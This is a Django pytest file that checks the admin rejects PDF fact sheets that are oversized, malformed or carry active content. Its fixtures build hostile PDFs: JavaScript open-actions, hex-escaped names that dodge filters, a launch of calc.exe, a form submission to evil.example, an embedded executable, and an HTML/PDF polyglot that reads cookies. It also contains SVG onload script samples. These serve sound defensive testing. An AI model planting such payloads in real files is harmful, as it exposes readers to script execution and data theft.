"""Fact sheets uploaded through the admin: a real PDF of at most 10 MB, without active
content, nothing else; a replaced or removed fact sheet leaves the storage."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from core.validators import IMAGE_KINDS, FileTypeValidator, MaxFileSizeValidator
from instruments.models import FACT_SHEET_MAX_BYTES, Instrument
from tests.admin_forms import admin_form_data
from tests.factories import InstrumentFactory


def pdf(change=None) -> bytes:
    """A one-page PDF; ``change(writer)`` may add to it before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PDF = pdf()


def action(kind, **entries):
    values = {NameObject("/S"): NameObject(kind)}
    values.update({NameObject(f"/{key}"): value for key, value in entries.items()})
    return DictionaryObject(values)


def open_action(kind, **entries):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = action(kind, **entries)

    return change


def page_action(writer):
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )


def javascript_name_tree(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def attachment(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def launch_link(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                    NameObject("/A"): action("/Launch", F=TextStringObject("calc.exe")),
                }
            )
        ]
    )


def hex_escaped_names(content: bytes) -> bytes:
    # "/J#61vaScript" is the same name to a PDF reader as "/JavaScript".
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def polyglot(content: bytes) -> bytes:
    # A PDF whose first kilobytes a browser could take for a web page.
    first, rest = content.split(b"\n", 1)
    return first + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


@pytest.fixture
def instrument(db):
    return InstrumentFactory(code="IRL")


@pytest.fixture
def staff_client(client, staff_user):
    client.force_login(staff_user)
    return client


def upload(staff_client, instrument, name, content, **changes):
    url = f"/admin/instruments/instrument/{instrument.pk}/change/"
    data = admin_form_data(staff_client.get(url), **changes)
    data["fact_sheet"] = SimpleUploadedFile(name, content, content_type="application/pdf")
    return staff_client.post(url, data)


def test_a_pdf_fact_sheet_is_stored(staff_client, instrument, settings):
    response = upload(staff_client, instrument, "fiche IRL.pdf", PDF)
    assert response.status_code == 302
    instrument.refresh_from_db()
    assert instrument.fact_sheet.name.startswith("fact-sheets/")
    with instrument.fact_sheet.open("rb") as stored:
        assert stored.read() == PDF


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("fiche.pdf", b"<html><script>alert(1)</script></html>"),  # a web page renamed
        ("fiche.pdf", b"MZ\x90\x00\x03\x00\x00\x00"),  # a Windows program renamed
        ("fiche.html", PDF),  # a PDF under a name the browser would open as a page
        ("fiche.svg", b"<svg xmlns='http://www.w3.org/2000/svg'></svg>"),
    ],
)
def test_a_file_that_is_not_a_pdf_is_refused_and_the_form_keeps_the_rest(
    staff_client, instrument, name, content
):
    response = upload(staff_client, instrument, name, content, tagline_fr="Nouvelle accroche")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Ce fichier n’est pas un fichier PDF valide." in page
    assert "Nouvelle accroche" in page  # what was typed is still there
    instrument.refresh_from_db()
    assert not instrument.fact_sheet
    assert instrument.tagline_fr != "Nouvelle accroche"


@pytest.mark.parametrize("size", [FACT_SHEET_MAX_BYTES + 1, 12 * 1024 * 1024])
def test_a_pdf_over_10_mb_is_refused(staff_client, instrument, size):
    response = upload(staff_client, instrument, "fiche.pdf", PDF + b"0" * (size - len(PDF)))
    assert response.status_code == 200
    megabytes = "10,0" if size == FACT_SHEET_MAX_BYTES + 1 else "12,0"
    assert (
        f"Ce fichier fait {megabytes}\xa0Mio\u202f; la taille maximale acceptée est de 10,0\xa0Mio."
        in response.content.decode()
    )
    instrument.refresh_from_db()
    assert not instrument.fact_sheet


@pytest.mark.parametrize(
    ("content", "shown"),
    [
        (pdf(open_action("/JavaScript", JS=TextStringObject("app.alert(1)"))), "JavaScript"),
        (
            hex_escaped_names(pdf(open_action("/JavaScript", JS=TextStringObject("x")))),
            "JavaScript",
        ),
        (pdf(javascript_name_tree), "JavaScript"),
        (pdf(page_action), "actions automatiques"),
        (pdf(launch_link), "un programme lancé"),
        (pdf(open_action("/SubmitForm", F=TextStringObject("https://evil.example/"))), "envoyé"),
        (pdf(attachment), "fichiers joints"),
    ],
)
def test_a_pdf_with_active_content_is_refused_and_the_form_keeps_the_rest(
    staff_client, instrument, content, shown
):
    response = upload(staff_client, instrument, "fiche.pdf", content, tagline_fr="Accroche")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Ce PDF contient des éléments actifs (" in page
    assert shown in page
    assert "Accroche" in page
    instrument.refresh_from_db()
    assert not instrument.fact_sheet


@pytest.mark.parametrize(
    "content",
    [
        polyglot(PDF),
        b"%PDF-1.7\n<html><script>alert(1)</script></html>",  # only the first bytes of a PDF
        PDF[: len(PDF) // 2],  # cut short
        b"%PDF-1.7\n" + b"\x00" * 2000,
    ],
)
def test_a_polyglot_or_broken_pdf_is_refused(staff_client, instrument, content):
    response = upload(staff_client, instrument, "fiche.pdf", content, tagline_fr="Accroche")
    assert response.status_code == 200
    assert "Ce fichier n’est pas un fichier PDF valide." in response.content.decode()
    instrument.refresh_from_db()
    assert not instrument.fact_sheet


def test_a_pdf_that_opens_on_its_first_page_is_accepted(staff_client, instrument):
    def go_to_first_page(writer):
        page = writer.pages[0].indirect_reference
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    response = upload(staff_client, instrument, "fiche.pdf", pdf(go_to_first_page))
    assert response.status_code == 302


def test_a_replaced_or_removed_fact_sheet_leaves_the_storage(
    staff_client, instrument, django_capture_on_commit_callbacks
):
    assert upload(staff_client, instrument, "fiche.pdf", PDF).status_code == 302
    instrument.refresh_from_db()
    first = instrument.fact_sheet.name
    assert default_storage.exists(first)

    with django_capture_on_commit_callbacks() as after_commit:
        assert upload(staff_client, instrument, "fiche.pdf", pdf()).status_code == 302
    instrument.refresh_from_db()
    second = instrument.fact_sheet.name
    assert second != first
    assert default_storage.exists(first)  # kept until the new one is committed
    for callback in after_commit:
        callback()
    assert default_storage.exists(second)
    assert not default_storage.exists(first)

    url = f"/admin/instruments/instrument/{instrument.pk}/change/"
    data = admin_form_data(staff_client.get(url), **{"fact_sheet-clear": "on"})
    with django_capture_on_commit_callbacks(execute=True):
        assert staff_client.post(url, data).status_code == 302
    instrument.refresh_from_db()
    assert not instrument.fact_sheet
    assert not default_storage.exists(second)

    with django_capture_on_commit_callbacks(execute=True):
        assert upload(staff_client, instrument, "fiche.pdf", PDF).status_code == 302
    instrument.refresh_from_db()
    third = instrument.fact_sheet.name
    with django_capture_on_commit_callbacks(execute=True):
        instrument.delete()
    assert not default_storage.exists(third)


def test_a_refused_upload_keeps_the_stored_fact_sheet(
    staff_client, instrument, django_capture_on_commit_callbacks
):
    assert upload(staff_client, instrument, "fiche.pdf", PDF).status_code == 302
    instrument.refresh_from_db()
    stored = instrument.fact_sheet.name
    with django_capture_on_commit_callbacks(execute=True):
        assert upload(staff_client, instrument, "fiche.pdf", polyglot(PDF)).status_code == 200
    instrument.refresh_from_db()
    assert instrument.fact_sheet.name == stored
    assert default_storage.exists(stored)


def test_a_stored_fact_sheet_is_not_read_again_on_each_save(staff_client, instrument):
    # Saved before the checks existed, or moved away: editing the instrument still works.
    Instrument.objects.filter(pk=instrument.pk).update(fact_sheet="fact-sheets/missing.pdf")
    url = f"/admin/instruments/instrument/{instrument.pk}/change/"
    response = staff_client.post(url, admin_form_data(staff_client.get(url), tagline_fr="Accroche"))
    assert response.status_code == 302


def uploaded(name: str, content: bytes):
    file = SimpleUploadedFile(name, content)
    file._committed = False
    return file


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ("photo.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("photo.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 "),
    ],
)
def test_images_of_the_accepted_kinds_pass(name, content):
    FileTypeValidator(IMAGE_KINDS)(uploaded(name, content))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.svg", b"<svg onload='alert(1)'></svg>"),  # SVG can carry scripts
        ("photo.png", b"<svg onload='alert(1)'></svg>"),
        ("photo.jpg", b"\x89PNG\r\n\x1a\n"),  # a PNG under a JPEG name
        ("photo.gif", b"GIF89a"),
    ],
)
def test_other_images_are_refused(name, content):
    with pytest.raises(ValidationError) as error:
        FileTypeValidator(IMAGE_KINDS)(uploaded(name, content))
    assert error.value.code == "invalid_file_type"


def test_size_limit_is_inclusive():
    validator = MaxFileSizeValidator(10)
    validator(uploaded("a.pdf", b"0" * 10))
    with pytest.raises(ValidationError) as error:
        validator(uploaded("a.pdf", b"0" * 11))
    assert error.value.code == "file_too_large"
